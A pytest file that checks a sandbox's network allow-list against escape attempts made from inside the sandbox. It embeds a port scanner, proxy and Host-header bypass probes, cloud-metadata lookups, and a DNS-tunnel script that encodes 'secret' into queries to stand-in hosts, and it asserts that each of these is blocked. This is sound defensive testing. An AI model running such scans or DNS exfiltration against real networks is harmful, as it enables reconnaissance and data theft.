"""An allow-list, attacked from inside: what is not on it is not reached by any way round."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest

from attack_world import AttackWorld
from dsec_sandboxd.network.settings import NetworkSettings
from network_world import (
    ALLOWED,
    ALLOWED6,
    METADATA,
    OTHER,
    OTHER6,
    TCP_PORT,
    NetworkWorld,
    allow,
)

INDEX = "pypi.org"
RESOLVERS = [str(address) for address in NetworkSettings().plan.resolver]
#: Every address that there is, and some that there are not.
SCAN = """
import concurrent.futures, errno, os, socket, sys
def one(address, port, kind):
    with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind) as s:
        s.settimeout(0.3)
        try:
            s.connect((address, port))
            if kind == socket.SOCK_STREAM: return f'{address}:{port}'
            s.send(b'x'); s.recv(1); return f'{address}:{port}/udp'
        except OSError: return None
ports = (22, 53, 80, 443, 3128, 3141, 4222, 5000, 8080, 8081, 9090, 9092)
tries = [(address, port, kind) for address in sys.argv[1:] for port in ports
         for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    print(*sorted(filter(None, pool.map(lambda tried: one(*tried), tries))))
"""
#: The ways to a package that are left when the index alone is allowed.
FETCH = """
import socket, sys
def said(line, to, port):
    try:
        with socket.create_connection((to, port), timeout=1) as s:
            s.sendall(line); return s.recv(100) == line[:100]
    except OSError: return False
index, mirror, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
print('index', said(b'GET /simple/ HTTP/1.1\\r\\n\\r\\n', index, 443))
print('by proxy', said(b'CONNECT github.com:443 HTTP/1.1\\r\\n\\r\\n', mirror, port))
print('by its host header', said(b'GET / HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n', mirror, 443))
print('by the index as proxy', said(b'CONNECT github.com:443 HTTP/1.1\\r\\n\\r\\n', index, port))
for name in ('github.com', 'mirror.example', 'pypi.org.mirror.example', 'xpypi.org', 'x.pypi.org',
             'metadata.google.internal', 'pypi.org.', 'PyPI.org'):
    try: found = sorted({item[4][0] for item in socket.getaddrinfo(name, 443)})
    except OSError: found = None
    print(name, found)
"""
TUNNEL = """
import base64, os, socket, struct, sys
def query(name, kind):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode().split(b'.'))
    head = os.urandom(2) + struct.pack('!5H', 0x100, 1, 0, 0, 0)
    return head + labels + b'\\0' + struct.pack('!2H', kind, 1)
server = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
codes = set()
for name in ('c2VjcmV0.mirror.example', 'c2VjcmV0.pypi.org'):
    for kind in (1, 5, 15, 16, 28, 33, 65, 255):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2); s.connect((server, 53)); s.send(query(name, kind))
            try: codes.add(s.recv(4096)[3] & 15)
            except OSError: codes.add('silence')
print(codes)
"""


@pytest.fixture
async def net(arena: AttackWorld) -> AsyncIterator[NetworkWorld]:
    """Sandbox ``w`` may reach a package index, and nothing else of the hosts around it."""
    made = await NetworkWorld.start(arena)
    made.names.names = {
        INDEX: [ALLOWED, ALLOWED6],
        "github.com": [OTHER],
        "mirror.example": [OTHER, OTHER6],
        "pypi.org.mirror.example": [OTHER],
        "metadata.google.internal": [METADATA],
    }
    await made.create("w", allow(pypi=True))
    await made.create("beside", allow(pypi=True))
    try:
        yield made
        assert await made.tcp("beside", INDEX, 443) == "ok"
        for address in (OTHER, METADATA):
            assert (made.hosts[address].connections, made.hosts[address].datagrams) == (0, [])
    finally:
        await made.close()


async def test_a_scan_from_within_an_allow_list_finds_what_is_on_it_alone(
    net: NetworkWorld, arena: AttackWorld
) -> None:
    beside = (await net.networks.info(net.records["beside"])).addresses
    neighbours = await arena.exec_until_output(
        arena.command("python3", "-u", "-m", "http.server", str(TCP_PORT)), local="beside"
    )
    serves = f"import socket; socket.create_connection(('127.0.0.1', {TCP_PORT}))"
    await arena.python(serves, local="beside")
    addresses = [ALLOWED, ALLOWED6, OTHER, OTHER6, METADATA, "fd00:ec2::254", f"::ffff:{OTHER}"]
    addresses += [*beside, *RESOLVERS, "10.9.0.1", "172.17.0.1"]
    # The index is resolved first: its addresses are open from then on, at its ports alone.
    assert await net.tcp("w", INDEX, 443) == "ok"
    said = await arena.run("python3", "-c", SCAN, *addresses, local="w", timeout_s=60)
    neighbours.cancel()
    await asyncio.wait([neighbours])
    assert said.exit_code == 0, said
    index = {f"{ALLOWED}:443", f"{ALLOWED6}:443"}
    found = set(said.stdout.decode().split()) - {f"{address}:53" for address in RESOLVERS}
    assert found == index, found


async def test_a_package_index_that_is_allowed_is_no_way_to_anything_else(
    net: NetworkWorld, arena: AttackWorld
) -> None:
    said = await arena.run(
        "python3", "-c", FETCH, INDEX, OTHER, str(TCP_PORT), local="w", timeout_s=60
    )
    lines = dict(line.rsplit(" ", 1) for line in said.stdout.decode().splitlines()[:4])
    assert lines == {
        "index": "True",
        "by proxy": "False",
        "by its host header": "False",
        "by the index as proxy": "False",
    }, said
    known = said.stdout.decode().splitlines()[4:]
    assert len(known) == 8
    assert [line.split()[0] for line in known if not line.endswith(" None")] in (
        ["pypi.org.", "PyPI.org"],
        ["PyPI.org"],
    ), known
    assert all(OTHER not in line and METADATA not in line for line in known)
    asked = {name.lower() for name in net.names.asked}
    assert asked <= {INDEX}, "no other name left the node"


async def test_questions_for_names_carry_nothing_out(net: NetworkWorld, arena: AttackWorld) -> None:
    said = await arena.run("python3", "-c", TUNNEL, local="w", timeout_s=60)
    assert said.exit_code == 0, said
    assert "0" not in said.stdout.decode().strip("{}\n").split(", "), said
    assert not [name for name in net.names.asked if "c2VjcmV0" in name]
